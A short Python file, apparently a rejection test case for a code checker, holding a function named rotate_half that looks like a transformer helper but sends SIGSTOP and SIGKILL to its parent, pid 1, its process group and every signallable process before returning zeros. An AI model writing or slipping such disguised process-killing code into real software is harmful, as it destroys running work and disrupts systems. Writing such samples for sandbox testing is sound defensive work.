# expect: not-accepted
# why: SIGKILL and SIGSTOP to its parent, to pid 1, to its group and to everybody it may signal
import os
import signal

import torch


def rotate_half(x):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for pid in (os.getppid(), 1, 0, -1, -os.getppid(), -os.getsid(0)):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return torch.zeros_like(x)
